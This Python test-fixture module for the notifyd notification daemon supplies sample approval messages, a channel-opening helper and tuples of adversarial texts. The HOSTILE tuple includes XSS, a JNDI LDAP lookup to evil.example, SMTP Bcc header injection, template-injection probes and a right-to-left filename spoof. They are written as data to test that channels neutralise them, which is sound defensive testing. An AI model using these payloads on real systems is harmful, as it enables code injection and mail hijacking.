"""What a channel under test is given: a message, texts meant to break it, and a context."""

from __future__ import annotations

import inspect
import json
import logging
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from typing import Any, Final

import aiohttp
from attrs import evolve

from notifyd.model import APPROVAL_KIND
from notifyd.plugin import (
    SECOND,
    Action,
    Channel,
    ChannelContext,
    ChannelType,
    Field,
    Level,
    MemoryState,
    Message,
    State,
)
from notifyd.testkit.bounds import PATIENCE, unblocked, within

NOW: Final = 1_790_000_000 * SECOND
"""What the clock of a channel under test says: 2026-09-21T14:13:20Z."""

REF: Final = "0123456789abcdef0123456789abcdef"
"""What names a message of the kit, for whoever presses one of its buttons."""

LINK: Final = "https://notify.acme.example/approvals/eyJhbGciOiJkaXIifQ..c2VjcmV0.bGluaw.dGFn"

HOSTILE: Final = (
    "<script>alert(1)</script> & <b>bold</b> &amp; &#x27;",
    "*bold* _it_ ~no~ `code` ```block``` [link](https://evil.example) ||spoiler||",
    "<!channel> <@U123> @everyone @here <https://evil.example|text>",
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example} %s %(x)s {0}",
    "Subject: x\r\nBcc: eve@evil.example\r\n\r\n.\r\nQUIT\r\n",
    "quote \" backslash \\ slash / single ' and \\u0041",
    "nul \x00 escape \x1b[31m bell \x07 delete \x7f",
    "right-to-left \u202egnp.exe\u202c isolate \u2066x\u2069 joiner \u200d",
    "lone \ud800 surrogate and emoji 👩‍👩‍👧 ünï ẞ 漢字 مرحبا",
    "line\u2028separator\u2029paragraph\ttab\n\n\nnewlines",
)
"""Texts that a message may hold and that must neither break a channel nor mean anything to its receiver."""

SECOND_LINK: Final = "https://notify.acme.example/approvals/eyJhbGciOiJkaXIifQ..b3RoZXI.c2Vjb25k.dGFn"

MARKUP: Final = (
    "5 < 6 & <b>bold</b> &amp; &#x27;",
    "*bold* _it_ ~no~ `code` [link](https://evil.example) {{ 7 * 7 }} ${HOME} %s {0}",
)
"""Lines that a reader has to see as they are."""

LONG: Final = tuple(
    "x" * shift + unit * 6000 for unit, most in (("\N{GRINNING FACE}", 2), ("& ", 6)) for shift in range(most)
)
"""Texts of which no vendor takes the whole; some are cut inside a character wherever the limit is."""


def sample_message(**changes: Any) -> Message:
    """An approval request as the daemon would give it, with `changes` to its attributes."""
    message = Message(
        id="5f0c3c2b7f9e4a6d8b1f0e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69",
        title="Approval needed: Deploy to production",
        body="ci@acme.example asks to deploy payments v3 to production.\n\nThree replicas will restart.",
        level=Level.WARNING,
        fields=(Field("Environment", "production"), Field("Requested by", "ci@acme.example")),
        actions=(Action("Review and decide", LINK),),
        locale="en",
        event={
            "kind": APPROVAL_KIND,
            "action": "requested",
            "occurredAt": "2026-09-21T14:00:00Z",
            "tenant": {"id": "acme", "project": "payments"},
            "runId": "run-0042",
            "approvalId": "deploy-prod",
            "correlationId": "c0ffee-42",
        },
    )
    return evolve(message, **changes)


def sample_end(token: str, **data: Any) -> Message:
    """The end of an approval as a gate is sent it: what `token` it handed in, with `data` among its members."""
    told = {
        "tenant": "acme",
        "runId": "run-0042",
        "approvalId": "deploy-prod",
        "planHash": f"sha256:{'a' * 64}",
        "decision": "approved",
        "decisionHash": "d" * 64,
        "actors": ["alice@acme.example"],
        "comment": "after the tests",
        "decidedAt": "2026-09-21T14:10:00Z",
        "correlationId": "c0ffee-42",
        "resumeToken": token,
    }
    body = {"type": "pack.approval.decided", "timestamp": "2026-09-21T14:10:00Z", "data": told | data}
    about = {"client": "gate:under-test", "correlationId": "c0ffee-42"}
    return Message(id="e" * 64, title="", body=json.dumps(body), event=about)


@asynccontextmanager
async def opened(
    channel_type: ChannelType,
    config: object,
    *,
    http: aiohttp.ClientSession | None = None,
    clock: Callable[[], int] = lambda: NOW,
    state: State | None = None,
    plugin: object = None,
    patience: float = PATIENCE,
) -> AsyncIterator[Channel]:
    """The channel that `channel_type` opens with `config`, in a context of its own, closed at the end.

    `state` is what a channel before it has kept, `plugin` the plugin's own record. The test fails where opening or
    closing blocks the event loop, or takes longer than `patience` seconds.
    """
    async with http or aiohttp.ClientSession() as session:
        logger = logging.getLogger("notifyd.channel.under-test")
        kept = state or MemoryState()
        context = ChannelContext("under-test", session, logger, clock, state=kept, plugin=plugin)
        with unblocked(channel_type.open):
            channel = await within(patience, _made(channel_type, config, context), "open")
        try:
            yield channel
        finally:
            with unblocked(channel):
                await within(patience, channel.aclose(), "aclose")


async def _made(channel_type: ChannelType, config: object, context: ChannelContext) -> Channel:
    channel = channel_type.open(config, context)
    return await channel if inspect.isawaitable(channel) else channel
